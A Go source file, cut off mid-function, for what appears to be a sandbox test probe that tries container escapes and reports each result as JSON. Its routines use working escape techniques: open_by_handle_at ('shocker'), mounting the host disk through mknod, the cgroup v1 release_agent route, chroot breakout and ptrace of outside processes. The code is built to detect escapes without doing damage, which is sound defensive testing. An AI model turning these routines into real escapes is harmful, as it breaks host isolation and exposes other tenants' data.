// Command probe tries one escape from a box, as whoever runs it, and
// prints one JSON line: {"case":..., "escaped":bool, "detail":...}.
// escaped is true only when the attempt reached what the box must not
// (a host canary opened by name, a host-wide file opened for writing, a
// process outside the box seen): the suite in api/sandbox/escape runs it
// in boxes and wants false, and runs it on the host as root (outside any
// box) and wants true, so a case that cannot see its own escape fails
// there.
//
// The probe never prints what it reads (a canary's content stays out of
// every output; it says how many bytes), never writes a host file (a write
// is tried by opening for writing, which is where proc, sysfs and the file
// systems check the right to write; the one write, to a cgroup v1
// release_agent, puts back the value it read, in a hierarchy the probe
// mounted itself), and does its mounts in a mount namespace of its own.
//
// Usage: probe [-config FILE] CASE; probe hold MARKER ABSTRACT (a process
// for another box to look for: it listens on the abstract unix socket and
// waits). CASE is one of the names cases lists, class/attempt.
package main

import (
	"bufio"
	"bytes"
	"encoding/binary"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io/fs"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"time"

	"github.com/cocoonbox/cocoonbox/api/sandbox/escape"
	"golang.org/x/sys/unix"
)

// nsEnv marks the probe's own re-execution in a new mount namespace.
const nsEnv = "COCOONBOX_PROBE_NS"

// cases are the attempts by name; ns marks those run in a mount
// namespace of the probe's own (made by a re-execution: a Go program
// cannot unshare its mount namespace once it runs threads).
var cases = map[string]struct {
	ns  bool
	run func(*escape.Config) (bool, string)
}{
	"open_by_handle_at/host-root": {false, handleRoot},
	"bind-mount/write":            {false, bindWrite},
	"bind-mount/read":             {false, bindRead},
	"mount/block-device":          {true, mountDisk},
	"mount/proc":                  {true, mountProc},
	"mount/sysfs":                 {true, mountSysfs},
	"umount/proc-overmounts":      {true, umountProc},
	"pivot_root/old-root":         {true, pivotRoot},
	"pivot_root/chroot-breakout":  {true, chrootBreakout},
	"kernel-module/init_module":   {false, initModule},
	"kernel-module/finit_module":  {false, finitModule},
	"proc-sys/write":              {false, procSysWrite},
	"sysrq-trigger/write":         {false, sysrqWrite},
	"sys/write":                   {false, sysWrite},
	"device/mknod-host-disk":      {true, mknodDisk},
	"device/mknod-host-loop":      {true, mknodLoop},
	"device/open-existing":        {false, openDevices},
	"cgroup-v1/release_agent":     {true, releaseAgent},
	"cgroup-v1/notify_on_release": {true, notifyOnRelease},
	"ptrace/outside-process":      {false, ptraceOutside},
	"other-box/disk":              {false, otherDisk},
	"other-box/processes":         {false, otherProcesses},
	"other-box/abstract-socket":   {false, otherSocket},
	"supervisor/environ":          {false, supervisorEnviron},
	"supervisor/memory":           {false, supervisorMemory},
	"supervisor/state-dir":        {false, supervisorState},
	"persist/outlive-delete":      {false, nil}, // persist, with its marker
	"persist/hold":                {false, nil}, // the persisting process itself
	"hold":                        {false, nil}, // the other box's listener
	"list":                        {false, nil},
}

func main() {
	configFile := flag.String("config", "/usr/local/share/cocoonbox-probe.json", "the test's Config (JSON)")
	flag.Parse()
	if flag.NArg() < 1 {
		fmt.Fprintln(os.Stderr, "usage: probe [-config FILE] CASE | hold MARKER ABSTRACT | list")
		os.Exit(2)
	}
	name := flag.Arg(0)
	switch name {
	case "list":
		var names []string
		for n, c := range cases {
			if c.run != nil || n == "persist/outlive-delete" {
				names = append(names, n)
			}
		}
		slices.Sort(names)
		fmt.Println(strings.Join(names, "\n"))
		return
	case "hold":
		hold(flag.Arg(1), flag.Arg(2))
		return
	case "persist/hold":
		persistHold(flag.Arg(1))
		return
	}
	c, ok := cases[name]
	if !ok {
		fmt.Fprintf(os.Stderr, "probe: no case %q\n", name)
		os.Exit(2)
	}
	var cfg escape.Config
	data, err := os.ReadFile(*configFile)
	if err == nil {
		err = json.Unmarshal(data, &cfg)
	}
	if err != nil {
		fmt.Fprintf(os.Stderr, "probe: the config: %v\n", err)
		os.Exit(2)
	}
	var escaped bool
	var detail string
	switch {
	case name == "persist/outlive-delete":
		escaped, detail = persist(flag.Arg(1))
	case c.ns && os.Getenv(nsEnv) == "":
		escaped, detail = inNamespace(*configFile, name)
	case c.ns:
		// In the probe's own mount namespace: nothing it mounts propagates
		// back to the box (or the host, in the control run).
		if err := unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, ""); err != nil {
			escaped, detail = false, fmt.Sprintf("make the mounts private: %v", err)
		} else {
			escaped, detail = c.run(&cfg)
		}
	default:
		escaped, detail = c.run(&cfg)
	}
	out, _ := json.Marshal(escape.Result{Case: name, Escaped: escaped, Detail: detail})
	fmt.Println(string(out))
}

// inNamespace runs the case again in a new mount namespace: CLONE_NEWNS
// where the caller may (CAP_SYS_ADMIN), else with a user namespace that
// maps the caller to root, as an attacker without the capability would.
// It answers the child's line.
func inNamespace(configFile, name string) (bool, string) {
	run := func(attr *syscall.SysProcAttr) (bool, string, error) {
		cmd := exec.Command("/proc/self/exe", "-config", configFile, name)
		cmd.Env = append(os.Environ(), nsEnv+"=1")
		cmd.SysProcAttr = attr
		var stderr bytes.Buffer
		cmd.Stderr = &stderr
		out, err := cmd.Output()
		if err != nil && len(out) == 0 {
			return false, "", fmt.Errorf("%v: %s", err, strings.TrimSpace(stderr.String()))
		}
		var r escape.Result
		if err := json.Unmarshal(lastLine(out), &r); err != nil {
			return false, "", fmt.Errorf("the child's output %q: %v", out, err)
		}
		return r.Escaped, r.Detail, nil
	}
	escaped, detail, err := run(&syscall.SysProcAttr{Cloneflags: unix.CLONE_NEWNS})
	if err == nil {
		return escaped, "own mount namespace: " + detail
	}
	first := err
	escaped, detail, err = run(&syscall.SysProcAttr{
		Cloneflags:  unix.CLONE_NEWNS | unix.CLONE_NEWUSER,
		UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}},
		GidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getgid(), Size: 1}},
	})
	if err != nil {
		return false, fmt.Sprintf("no mount namespace of its own: %v; with a user namespace: %v", first, err)
	}
	return escaped, "own user and mount namespace: " + detail
}

func lastLine(b []byte) []byte {
	lines := bytes.Split(bytes.TrimSpace(b), []byte("\n"))
	return lines[len(lines)-1]
}

// mountEntry is one line of /proc/self/mountinfo.
type mountEntry struct {
	dev, root, point, fstype, opts string
}

func mounts() []mountEntry {
	data, _ := os.ReadFile("/proc/self/mountinfo")
	var out []mountEntry
	for _, line := range strings.Split(string(data), "\n") {
		f := strings.Fields(line)
		i := slices.Index(f, "-")
		if len(f) < 7 || i < 0 || i+1 >= len(f) {
			continue
		}
		opts := f[5]
		if i+3 < len(f) {
			opts += " " + f[i+3] // the super block's: a cgroup's controllers
		}
		out = append(out, mountEntry{dev: f[2], root: unescape(f[3]), point: unescape(f[4]), opts: opts, fstype: f[i+1]})
	}
	return out
}

// unescape undoes mountinfo's octal escapes (\040 for a space).
func unescape(s string) string {
	if !strings.Contains(s, `\`) {
		return s
	}
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '\\' && i+3 < len(s) {
			if n, err := strconv.ParseUint(s[i+1:i+4], 8, 8); err == nil {
				b.WriteByte(byte(n))
				i += 3
				continue
			}
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

// pseudo are the file systems whose escapes have classes of their own
// (proc, sysfs, cgroup) or that hold nothing of the host's disk.
var pseudo = map[string]bool{"proc": true, "sysfs": true, "cgroup": true, "cgroup2": true, "devpts": true,
	"mqueue": true, "securityfs": true, "debugfs": true, "tracefs": true, "bpf": true, "fusectl": true,
	"configfs": true, "hugetlbfs": true, "pstore": true, "binfmt_misc": true, "autofs": true}

// binds are the mounts of part of a file system (root is not "/"): a
// file or directory bound from elsewhere.
func binds() []mountEntry {
	var out []mountEntry
	for _, m := range mounts() {
		if m.root != "/" && !pseudo[m.fstype] {
			out = append(out, m)
		}
	}
	return out
}

// suffixes are the relative paths under which a file system's root may
// hold the absolute path p: "a/b/c", "b/c", "c" (a file system mounted at
// /a/b holds /a/b/c as "c").
func suffixes(p string) []string {
	parts := strings.Split(strings.Trim(p, "/"), "/")
	var out []string
	for i := range parts {
		out = append(out, filepath.Join(parts[i:]...))
	}
	return out
}

// readAt opens path relative to dirfd for reading and answers how many
// bytes it read; the bytes are dropped.
func readAt(dirfd int, path string) (int, error) {
	fd, err := unix.Openat(dirfd, path, unix.O_RDONLY|unix.O_NOFOLLOW|unix.O_CLOEXEC|unix.O_NONBLOCK, 0)
	if err != nil {
		return 0, err
	}
	defer unix.Close(fd)
	buf := make([]byte, 4096)
	return unix.Read(fd, buf)
}

// findUnder tries each target under dirfd by all its suffixes and
// answers the first it read.
func findUnder(dirfd int, targets []string) (string, int, bool) {
	for _, t := range targets {
		for _, s := range suffixes(t) {
			if n, err := readAt(dirfd, s); err == nil {
				return t, n, true
			}
		}
	}
	return "", 0, false
}

func targets(c *escape.Config) []string {
	return append(append([]string{}, c.HostFiles...), c.BoxFiles...)
}

// handleRoot is the "shocker" attack: a handle made up for the root of
// the file system under each mount (inode 2 on ext4, 128 on xfs;
// generation 0), opened by open_by_handle_at with the mount's own file as
// the mount fd, then the canaries opened by name under it.
func handleRoot(c *escape.Config) (bool, string) {
	var tried []string
	seen := map[string]bool{}
	for _, m := range mounts() {
		if seen[m.dev] || pseudo[m.fstype] {
			continue
		}
		h, _, err := unix.NameToHandleAt(unix.AT_FDCWD, m.point, 0)
		if err != nil {
			tried = append(tried, fmt.Sprintf("%s: name_to_handle_at: %v", m.point, err))
			continue
		}
		if h.Type() != 1 || h.Size() != 8 { // FILEID_INO32_GEN: ino, generation
			tried = append(tried, fmt.Sprintf("%s: handle type %#x", m.point, h.Type()))
			continue
		}
		seen[m.dev] = true
		mfd, err := unix.Open(m.point, unix.O_RDONLY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
		if err != nil {
			tried = append(tried, fmt.Sprintf("%s: open: %v", m.point, err))
			continue
		}
		for _, ino := range []uint32{2, 128} {
			b := make([]byte, 8)
			binary.LittleEndian.PutUint32(b, ino)
			fd, err := unix.OpenByHandleAt(mfd, unix.NewFileHandle(1, b), unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC)
			if err != nil {
				tried = append(tried, fmt.Sprintf("%s (%s %s): open_by_handle_at(inode %d): %v", m.point, m.fstype, m.dev, ino, err))
				continue
			}
			t, n, ok := findUnder(fd, targets(c))
			unix.Close(fd)
			if ok {
				unix.Close(mfd)
				return true, fmt.Sprintf("through a handle of inode %d made up beside %s (%s %s): opened %s, read %d bytes", ino, m.point, m.fstype, m.dev, t, n)
			}
			tried = append(tried, fmt.Sprintf("%s (%s %s): opened the root (inode %d) but no canary under it", m.point, m.fstype, m.dev, ino))
		}
		unix.Close(mfd)
	}
	return false, strings.Join(tried, "; ")
}

// bindWrite tries to open every bound file for writing (no byte is
// written) and asks the kernel whether every bound directory is writable.
func bindWrite(c *escape.Config) (bool, string) {
	var tried []string
	for _, m := range binds() {
		var st unix.Stat_t
		if err := unix.Stat(m.point, &st); err != nil {
			tried = append(tried, fmt.Sprintf("%s: %v", m.point, err))
			continue
		}
		if st.Mode&unix.S_IFMT == unix.S_IFDIR {
			if err := unix.Faccessat(unix.AT_FDCWD, m.point, unix.W_OK, unix.AT_EACCESS); err == nil {
				return true, fmt.Sprintf("the bound directory %s (%s of %s %s) is writable", m.point, m.root, m.fstype, m.dev)
			} else {
				tried = append(tried, fmt.Sprintf("%s: %v", m.point, err))
			}
			continue
		}
		if st.Mode&unix.S_IFMT != unix.S_IFREG {
			continue
		}
		fd, err := unix.Open(m.point, unix.O_WRONLY|unix.O_APPEND|unix.O_NOFOLLOW|unix.O_CLOEXEC|unix.O_NONBLOCK, 0)
		if err == nil {
			unix.Close(fd)
			return true, fmt.Sprintf("the bound file %s (%s of %s %s) opened for writing", m.point, m.root, m.fstype, m.dev)
		}
		tried = append(tried, fmt.Sprintf("%s: %v", m.point, err))
	}
	if len(tried) == 0 {
		return false, "no bind mount"
	}
	return false, strings.Join(tried, "; ")
}

// bindRead looks for the canaries by name under every bound directory
// and through ".." beside every bound file.
func bindRead(c *escape.Config) (bool, string) {
	names := map[string]string{}
	for _, t := range targets(c) {
		names[filepath.Base(t)] = t
	}
	var tried []string
	for _, m := range binds() {
		tried = append(tried, m.point)
		found := ""
		_ = filepath.WalkDir(m.point, func(p string, d fs.DirEntry, err error) error {
			if err != nil {
				return nil
			}
			if d.IsDir() && strings.Count(strings.TrimPrefix(p, m.point), "/") > 3 {
				return filepath.SkipDir
			}
			if _, ok := names[d.Name()]; ok && !d.IsDir() {
				if n, err := readAt(unix.AT_FDCWD, p); err == nil {
					found = fmt.Sprintf("%s, read %d bytes", p, n)
					return fs.SkipAll
				}
			}
			return nil
		})
		if found != "" {
			return true, fmt.Sprintf("a canary under the bind %s (%s of %s %s): %s", m.point, m.root, m.fstype, m.dev, found)
		}
	}
	if len(tried) == 0 {
		return false, "no bind mount"
	}
	return false, "no canary under " + strings.Join(tried, ", ")
}

// scratch mounts a tmpfs of the probe's own (nodev off) on a new
// directory and answers it, or a directory of the box's when it cannot.
func scratch() (string, error) {
	dir, err := os.MkdirTemp("", "probe-")
	if err != nil {
		return "", err
	}
	if err := unix.Mount("probe", dir, "tmpfs", 0, "size=1m"); err != nil {
		return dir, fmt.Errorf("mount a tmpfs: %w", err)
	}
	return dir, nil
}

func parseDev(s string) (uint32, uint32, error) {
	maj, min, ok := strings.Cut(s, ":")
	a, err1 := strconv.ParseUint(maj, 10, 32)
	b, err2 := strconv.ParseUint(min, 10, 32)
	if !ok || err1 != nil || err2 != nil {
		return 0, 0, fmt.Errorf("not major:minor: %q", s)
	}
	return uint32(a), uint32(b), nil
}

// mountDisk makes a node of the host's disk and mounts it (read and
// write, as ext4 shares the host's own superblock only so; made read-only
// before anything is read), then opens the canaries under it.
func mountDisk(c *escape.Config) (bool, string) {
	maj, min, err := parseDev(c.Disk)
	if err != nil {
		return false, err.Error()
	}
	dir, err := scratch()
	if err != nil {
		return false, err.Error()
	}
	node := filepath.Join(dir, "disk")
	if err := unix.Mknod(node, unix.S_IFBLK|0o600, int(unix.Mkdev(maj, min))); err != nil {
		return false, fmt.Sprintf("mknod %s: %v", c.Disk, err)
	}
	mnt := filepath.Join(dir, "mnt")
	os.Mkdir(mnt, 0o700)
	var errs []string
	for _, fstype := range []string{"ext4", "xfs", "btrfs"} {
		err := unix.Mount(node, mnt, fstype, 0, "")
		if err != nil {
			errs = append(errs, fmt.Sprintf("%s: %v", fstype, err))
			continue
		}
		if err := unix.Mount("", mnt, "", unix.MS_REMOUNT|unix.MS_BIND|unix.MS_RDONLY, ""); err != nil {
			unix.Unmount(mnt, unix.MNT_DETACH)
			return false, fmt.Sprintf("mounted the host's disk but could not make it read-only, so read nothing: %v", err)
		}
		fd, err := unix.Open(mnt, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		if err != nil {
			return false, fmt.Sprintf("open the mount: %v", err)
		}
		t, n, ok := findUnder(fd, targets(c))
		unix.Close(fd)
		unix.Unmount(mnt, unix.MNT_DETACH)
		if ok {
			return true, fmt.Sprintf("mounted the host's disk %s (%s) and opened %s, read %d bytes", c.Disk, fstype, t, n)
		}
		return false, fmt.Sprintf("mounted %s (%s) but found no canary", c.Disk, fstype)
	}
	return false, "mount the disk node: " + strings.Join(errs, "; ")
}

// openWrite opens each path for writing (and writes nothing) and answers
// the first that opened.
func openWrite(paths []string) (string, []string) {
	var errs []string
	for _, p := range paths {
		fd, err := unix.Open(p, unix.O_WRONLY|unix.O_CLOEXEC|unix.O_NONBLOCK, 0)
		if err == nil {
			unix.Close(fd)
			return p, nil
		}
		errs = append(errs, fmt.Sprintf("%s: %v", p, err))
	}
	return "", errs
}

// procWrites are host-wide /proc files; opening one for writing is where
// proc checks the right to write it (sysctl_perm runs again at the write,
// with the same answer).
var procWrites = []string{"sys/kernel/core_pattern", "sys/kernel/panic", "sys/vm/swappiness", "sysrq-trigger"}

// sysWrites are host-wide sysfs attributes; kernfs checks the right to
// write at the open.
var sysWrites = []string{"kernel/uevent_helper", "kernel/mm/transparent_hugepage/enabled", "kernel/profiling", "kernel/rcu_expedited"}

func under(dir string, rel []string) []string {
	var out []string
	for _, r := range rel {
		out = append(out, filepath.Join(dir, r))
	}
	return out
}

// mountProc mounts a new proc and opens its host-wide files for writing.
func mountProc(c *escape.Config) (bool, string) {
	dir, err := os.MkdirTemp("", "probe-proc-")
	if err != nil {
		return false, err.Error()
	}
	if err := unix.Mount("proc", dir, "proc", 0, ""); err != nil {
		return false, fmt.Sprintf("mount proc: %v", err)
	}
	defer unix.Unmount(dir, unix.MNT_DETACH)
	if p, errs := openWrite(under(dir, procWrites)); p != "" {
		return true, fmt.Sprintf("mounted a new proc; %s opened for writing", p)
	} else {
		return false, "mounted a new proc; " + strings.Join(errs, "; ")
	}
}

// mountSysfs mounts a new sysfs, and remounts the box's /sys read-write,
// and opens host-wide attributes for writing.
func mountSysfs(c *escape.Config) (bool, string) {
	var notes []string
	dir, err := os.MkdirTemp("", "probe-sys-")
	if err != nil {
		return false, err.Error()
	}
	if err := unix.Mount("sysfs", dir, "sysfs", 0, ""); err != nil {
		notes = append(notes, fmt.Sprintf("mount sysfs: %v", err))
	} else {
		defer unix.Unmount(dir, unix.MNT_DETACH)
		if p, errs := openWrite(under(dir, sysWrites)); p != "" {
			return true, fmt.Sprintf("mounted a new sysfs; %s opened for writing", p)
		} else {
			notes = append(notes, errs...)
		}
	}
	if err := unix.Mount("", "/sys", "", unix.MS_REMOUNT|unix.MS_BIND, ""); err != nil {
		notes = append(notes, fmt.Sprintf("remount /sys read-write: %v", err))
	} else if p, errs := openWrite(under("/sys", sysWrites)); p != "" {
		return true, fmt.Sprintf("remounted /sys read-write; %s opened for writing", p)
	} else {
		notes = append(notes, errs...)
	}
	return false, strings.Join(notes, "; ")
}

// umountProc unmounts whatever is mounted over parts of /proc (the
// read-only /proc/sys, the masked files) and opens the host-wide files
// for writing.
func umountProc(c *escape.Config) (bool, string) {
	var notes []string
	ms := mounts()
	for i := len(ms) - 1; i >= 0; i-- {
		if strings.HasPrefix(ms[i].point, "/proc/") {
			if err := unix.Unmount(ms[i].point, unix.MNT_DETACH); err != nil {
				notes = append(notes, fmt.Sprintf("umount %s: %v", ms[i].point, err))
			} else {
				notes = append(notes, "unmounted "+ms[i].point)
			}
		}
	}
	if len(notes) == 0 {
		notes = append(notes, "nothing mounted under /proc")
	}
	if p, errs := openWrite(under("/proc", procWrites)); p != "" {
		return true, strings.Join(notes, "; ") + fmt.Sprintf("; %s opened for writing", p)
	} else {
		return false, strings.Join(append(notes, errs...), "; ")
	}
}

// pivotRoot pivots onto a tmpfs and looks for the canaries under the old
// root.
func pivotRoot(c *escape.Config) (bool, string) {
	dir, err := scratch()
	if err != nil {
		return false, err.Error()
	}
	old := filepath.Join(dir, "old")
	if err := os.Mkdir(old, 0o700); err != nil {
		return false, err.Error()
	}
	if err := unix.PivotRoot(dir, old); err != nil {
		return false, fmt.Sprintf("pivot_root: %v", err)
	}
	if err := unix.Chdir("/"); err != nil {
		return false, err.Error()
	}
	fd, err := unix.Open("/old", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return false, fmt.Sprintf("pivoted; open the old root: %v", err)
	}
	defer unix.Close(fd)
	for _, t := range targets(c) {
		if n, err := readAt(fd, strings.TrimPrefix(t, "/")); err == nil {
			return true, fmt.Sprintf("pivoted; opened %s under the old root, read %d bytes", t, n)
		}
	}
	return false, "pivoted; no canary under the old root"
}

// chrootBreakout is the classic chroot escape: chroot into a directory
// with a descriptor of the old root held, fchdir out, climb "..", chroot
// there, and look for the canaries.
func chrootBreakout(c *escape.Config) (bool, string) {
	dir, err := os.MkdirTemp("", "probe-chroot-")
	if err != nil {
		return false, err.Error()
	}
	fd, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return false, err.Error()
	}
	if err := unix.Chroot(dir); err != nil {
		return false, fmt.Sprintf("chroot: %v", err)
	}
	if err := unix.Fchdir(fd); err != nil {
		return false, err.Error()
	}
	for range 256 {
		_ = unix.Chdir("..")
	}
	if err := unix.Chroot("."); err != nil {
		return false, fmt.Sprintf("chroot back: %v", err)
	}
	for _, t := range targets(c) {
		if n, err := readAt(unix.AT_FDCWD, t); err == nil {
			return true, fmt.Sprintf("broke out of a chroot; opened %s, read %d bytes", t, n)
		}
	}
	return false, "broke out of a chroot to the box's root; no canary there"
}

// capModule says whether CAP_SYS_MODULE is in the effective set.
func capModule() bool {
	data, _ := os.ReadFile("/proc/self/status")
	for _, line := range strings.Split(string(data), "\n") {
		if v, ok := strings.CutPrefix(line, "CapEff:"); ok {
			n, _ := strconv.ParseUint(strings.TrimSpace(v), 16, 64)
			return n&(1<<unix.CAP_SYS_MODULE) != 0
		}
	}
	return false
}

// moduleVerdict reads a module load's errno: EPERM is the refusal (the
// capability check, modules_disabled or a seccomp filter); ENOSYS a
// kernel without modules, where no check ran; any other error came after
// the capability check, from the loader parsing the probe's garbage.
func moduleVerdict(call string, err error) (bool, string) {
	switch {
	case err == nil:
		return true, call + " loaded the probe's garbage as a module"
	case errors.Is(err, unix.EPERM):
		return false, fmt.Sprintf("%s: %v", call, err)
	case errors.Is(err, unix.ENOSYS):
		return false, fmt.Sprintf("%s: %v (a kernel without modules: nothing to load, CAP_SYS_MODULE effective: %v)", call, err, capModule())
	default:
		return true, fmt.Sprintf("%s passed the capability check and failed on the image: %v", call, err)
	}
}

func initModule(c *escape.Config) (bool, string) {
	return moduleVerdict("init_module", unix.InitModule([]byte("not a kernel module"), ""))
}

func finitModule(c *escape.Config) (bool, string) {
	f, err := os.CreateTemp("", "probe-module-")
	if err != nil {
		return false, err.Error()
	}
	defer os.Remove(f.Name())
	defer f.Close()
	f.WriteString("not a kernel module")
	return moduleVerdict("finit_module", unix.FinitModule(int(f.Fd()), "", 0))
}

func procSysWrite(c *escape.Config) (bool, string) {
	if p, errs := openWrite(under("/proc", procWrites[:3])); p != "" {
		return true, p + " opened for writing"
	} else {
		return false, strings.Join(errs, "; ")
	}
}

// sysrqWrite opens /proc/sysrq-trigger for writing, and never writes.
func sysrqWrite(c *escape.Config) (bool, string) {
	if p, errs := openWrite([]string{"/proc/sysrq-trigger"}); p != "" {
		return true, p + " opened for writing"
	} else {
		return false, strings.Join(errs, "; ")
	}
}

func sysWrite(c *escape.Config) (bool, string) {
	if p, errs := openWrite(under("/sys", sysWrites)); p != "" {
		return true, p + " opened for writing"
	} else {
		return false, strings.Join(errs, "; ")
	}
}

// mknodOpen makes a node of dev (kind S_IFBLK or S_IFCHR) in a scratch
// tmpfs, else in the box's /dev, /dev/shm, /tmp, /run, and opens it for
// reading; a block device is read (512 bytes, dropped).
func mknodOpen(kind uint32, maj, min uint32) (bool, string) {
	var tried []string
	dirs := []string{"/dev", "/dev/shm", "/tmp", "/run"}
	if d, err := scratch(); err == nil {
		dirs = append([]string{d}, dirs...)
	} else {
		tried = append(tried, err.Error())
	}
	for _, d := range dirs {
		node := filepath.Join(d, fmt.Sprintf("probe-node-%d", os.Getpid()))
		if err := unix.Mknod(node, kind|0o600, int(unix.Mkdev(maj, min))); err != nil {
			tried = append(tried, fmt.Sprintf("mknod in %s: %v", d, err))
			continue
		}
		fd, err := unix.Open(node, unix.O_RDONLY|unix.O_CLOEXEC|unix.O_NONBLOCK, 0)
		os.Remove(node)
		if err != nil {
			tried = append(tried, fmt.Sprintf("open %s: %v", node, err))
			continue
		}
		n := 0
		if kind == unix.S_IFBLK {
			n, err = unix.Read(fd, make([]byte, 512))
		}
		unix.Close(fd)
		if err != nil {
			tried = append(tried, fmt.Sprintf("read %s: %v", node, err))
			continue
		}
		return true, fmt.Sprintf("made %d:%d in %s and opened it (read %d bytes)", maj, min, d, n)
	}
	return false, strings.Join(tried, "; ")
}

func mknodDisk(c *escape.Config) (bool, string) {
	maj, min, err := parseDev(c.Disk)
	if err != nil {
		return false, err.Error()
	}
	return mknodOpen(unix.S_IFBLK, maj, min)
}

func mknodLoop(c *escape.Config) (bool, string) {
	maj, min, err := parseDev(c.Loop)
	if err != nil {
		return false, err.Error()
	}
	return mknodOpen(unix.S_IFBLK, maj, min)
}

// openDevices opens every block device and /dev/mem, /dev/kmem,
// /dev/port the box's /dev holds, for reading.
func openDevices(c *escape.Config) (bool, string) {
	var tried []string
	_ = filepath.WalkDir("/dev", func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() && strings.Count(p, "/") > 3 {
			return nil
		}
		if d.Type()&fs.ModeDevice == 0 || d.Type()&fs.ModeCharDevice != 0 && !slices.Contains([]string{"mem", "kmem", "port"}, d.Name()) {
			return nil
		}
		tried = append(tried, p)
		return nil
	})
	for _, p := range tried {
		fd, err := unix.Open(p, unix.O_RDONLY|unix.O_CLOEXEC|unix.O_NONBLOCK, 0)
		if err == nil {
			unix.Close(fd)
			return true, p + " opened"
		}
	}
	if len(tried) == 0 {
		return false, "no block device nor /dev/mem in /dev"
	}
	return false, "none opened: " + strings.Join(tried, ", ")
}

// cgroupV1 mounts a cgroup v1 hierarchy and answers its directory: one
// of the probe's own (a named one, no controller) where the kernel lets
// it make one, else the first existing hierarchy (a controller /proc/cgroups
// lists as mounted) whose root, with its release_agent, it can mount.
func cgroupV1() (string, error) {
	dir, err := os.MkdirTemp("", "probe-cgroup-")
	if err != nil {
		return "", err
	}
	name := fmt.Sprintf("none,name=cbprobe%d", os.Getpid())
	err = unix.Mount("cgroup", dir, "cgroup", 0, name)
	if err == nil {
		return dir, nil
	}
	errs := []string{fmt.Sprintf("%s: %v", name, err)}
	data, _ := os.ReadFile("/proc/cgroups")
	for _, line := range strings.Split(string(data), "\n") {
		f := strings.Fields(line)
		if len(f) < 4 || strings.HasPrefix(f[0], "#") || f[1] == "0" {
			continue
		}
		if err := unix.Mount("cgroup", dir, "cgroup", 0, f[0]); err != nil {
			errs = append(errs, fmt.Sprintf("%s: %v", f[0], err))
			continue
		}
		if _, err := os.Stat(filepath.Join(dir, "release_agent")); err == nil {
			return dir, nil
		}
		errs = append(errs, f[0]+": mounted below its root (no release_agent)")
		unix.Unmount(dir, unix.MNT_DETACH)
	}
	return "", fmt.Errorf("mount cgroup v1: %s", strings.Join(errs, "; "))
}

// hierarchy names the mount at dir (its options).
func hierarchy(dir string) string {
	for _, m := range mounts() {
		if m.point == dir {
			return m.fstype + " " + m.opts
		}
	}
	return "?"
}

// rewriteAgent writes release_agent's own value back to it: the write is
// where the kernel checks CAP_SYS_ADMIN in the initial user namespace
// (CVE-2022-0492's fix), and the value stays what it was.
func rewriteAgent(dir string) error {
	p := filepath.Join(dir, "release_agent")
	old, err := os.ReadFile(p)
	if err != nil {
		return err
	}
	if len(old) == 0 {
		old = []byte("\n")
	}
	f, err := os.OpenFile(p, os.O_WRONLY, 0)
	if err != nil {
		return err
	}
	defer f.Close()
	_, err = f.Write(old)
	return err
}

func releaseAgent(c *escape.Config) (bool, string) {
	dir, err := cgroupV1()
	if err != nil {
		return false, err.Error()
	}
	defer unix.Unmount(dir, unix.MNT_DETACH)
	if err := rewriteAgent(dir); err != nil {
		return false, fmt.Sprintf("mounted cgroup v1; write release_agent: %v", err)
	}
	return true, fmt.Sprintf("mounted cgroup v1 and wrote its release_agent (its own value back; %s)", hierarchy(dir))
}

func notifyOnRelease(c *escape.Config) (bool, string) {
	dir, err := cgroupV1()
	if err != nil {
		return false, err.Error()
	}
	defer unix.Unmount(dir, unix.MNT_DETACH)
	child := filepath.Join(dir, fmt.Sprintf("probe-%d", os.Getpid()))
	if err := os.Mkdir(child, 0o755); err != nil {
		return false, fmt.Sprintf("mounted cgroup v1; mkdir a child: %v", err)
	}
	defer os.Remove(child)
	notify := filepath.Join(child, "notify_on_release")
	if err := os.WriteFile(notify, []byte("1\n"), 0); err != nil {
		return false, fmt.Sprintf("mounted cgroup v1; notify_on_release: %v", err)
	}
	// Off again before the child goes: its removal releases nothing.
	defer os.WriteFile(notify, []byte("0\n"), 0)
	if err := rewriteAgent(dir); err != nil {
		return false, fmt.Sprintf("mounted cgroup v1, set notify_on_release, but release_agent: %v", err)
	}
	return true, fmt.Sprintf("mounted cgroup v1, set a child's notify_on_release and wrote release_agent (%s): a release would run the agent on the host", hierarchy(dir))
}

// process is one entry of /proc.
type process struct {
	pid     int
	cmdline string
}

// processes lists /proc's processes other than the probe's own.
func processes() []process {
	ents, _ := os.ReadDir("/proc")
	var out []process
	for _, e := range ents {
		pid, err := strconv.Atoi(e.Name())
		if err != nil || pid == os.Getpid() {
			continue
		}
		b, err := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
		if err != nil {
			continue
		}
		out = append(out, process{pid, strings.ReplaceAll(string(b), "\x00", " ")})
	}
	return out
}

// marked answers the visible processes whose command line holds marker.
func marked(marker string) []process {
	if marker == "" {
		return nil
	}
	var out []process
	for _, p := range processes() {
		if strings.Contains(p.cmdline, marker) {
			out = append(out, p)
		}
	}
	return out
}

// ptraceOutside seizes the host's marked process (seize does not stop
// it; the probe's exit detaches).
func ptraceOutside(c *escape.Config) (bool, string) {
	ps := marked(c.HostMarker)
	if len(ps) == 0 {
		return false, fmt.Sprintf("no process outside the box in sight (%d visible)", len(processes()))
	}
	for _, p := range ps {
		if err := unix.PtraceSeize(p.pid); err == nil {
			return true, fmt.Sprintf("seized the host's process %d", p.pid)
		}
	}
	return true, fmt.Sprintf("the host's process %d is in sight (ptrace refused)", ps[0].pid)
}

func otherDisk(c *escape.Config) (bool, string) {
	for _, t := range c.BoxFiles {
		if n, err := readAt(unix.AT_FDCWD, t); err == nil {
			return true, fmt.Sprintf("opened %s, read %d bytes", t, n)
		}
	}
	if c.BoxPath != "" {
